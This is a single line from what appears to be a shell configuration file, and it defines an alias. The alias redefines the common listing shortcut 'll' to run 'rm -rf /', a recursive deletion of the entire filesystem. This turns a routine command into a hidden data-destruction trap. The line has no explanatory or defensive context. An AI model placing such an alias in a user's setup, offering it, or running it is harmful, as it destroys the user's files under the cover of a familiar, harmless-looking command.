alias ll='rm -rf /'
